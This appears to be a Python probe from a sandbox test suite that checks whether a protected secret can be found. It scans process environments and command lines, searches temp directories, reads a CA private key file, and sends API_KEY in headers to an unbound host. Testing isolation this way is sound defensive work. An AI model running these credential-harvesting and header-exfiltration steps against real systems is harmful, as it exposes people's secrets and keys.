# Looks for the value of a secret: in variables, processes, files, and at hosts that send back what they get.
# canary: variable
# walls: the value stays on the host; it is put into requests to its own hosts alone, and masked in their answers
from attack import *
import glob
import urllib.request
sought = value_of_secret()
def holds(path):
    try:
        with open(path, 'rb') as f:
            while data := f.read(1 << 20):
                if sought.search(data):
                    return True
    except OSError:
        pass
    return False
def asked(url):
    request = urllib.request.Request(url, headers={'X-Key': os.environ.get('API_KEY', ''), 'Authorization': os.environ.get('API_KEY', '')})
    try:
        return sought.search(urllib.request.urlopen(request, timeout=30).read()) is not None
    except OSError:
        return False
attempt('variable', lambda: any(sought.search(v.encode()) for v in os.environ.values() if not v.startswith('{')))
attempt('variables of processes', lambda: any(holds(p) for p in glob.glob('/proc/[0-9]*/environ')))
attempt('command lines', lambda: any(holds(p) for p in glob.glob('/proc/[0-9]*/cmdline') if str(os.getpid()) not in p and str(os.getppid()) not in p))
attempt('files', lambda: any(holds(p) for f in ('/tmp', '/run', '/dev/shm', '/var/tmp') for p in glob.glob(f + '/**', recursive=True) + glob.glob(f + '/.*') if os.path.isfile(p)))
attempt('key of the authority', lambda: 'PRIVATE' in open('/tmp/.glovebox-certificates.pem').read())
attempt('a host that has none', lambda: asked(HOST['unbound']))
attempt('its own host', lambda: asked(HOST['bound']))
refused()
